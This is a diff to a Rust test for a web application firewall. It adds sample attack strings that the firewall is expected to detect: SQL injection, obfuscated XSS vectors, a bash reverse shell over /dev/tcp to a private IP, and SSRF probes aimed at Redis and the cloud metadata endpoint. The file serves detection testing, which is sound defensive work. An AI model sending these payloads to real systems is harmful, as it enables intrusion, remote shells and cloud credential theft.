@@ -369,6 +369,21 @@ fn public_rule_set_shapes_are_detected() {
         ("rfi", "expect://id"),
         ("rfi", "http://192.0.2.10/backdoor.txt?"),
         ("protocol", "foo%0d%0aLocation:%20http://evil.example"),
+        ("sqli", "1 procedure analyse()"),
+        ("sqli", "'||(SELECT version())||'"),
+        (
+            "sqli",
+            "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--",
+        ),
+        ("xss", "<details/open/ontoggle=confirm(1)>"),
+        ("xss", "<a href=javas&#99;ript:alert(1)>x"),
+        ("xss", "{{constructor.constructor('alert(1)')()}}"),
+        (
+            "command_injection",
+            "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        ),
+        ("rfi", "gopher://127.0.0.1:6379/_INFO"),
+        ("rfi", "http://169.254.169.254/latest/meta-data/"),
     ];
     let p = waf(json!({}));
     for (class, payload) in cases {
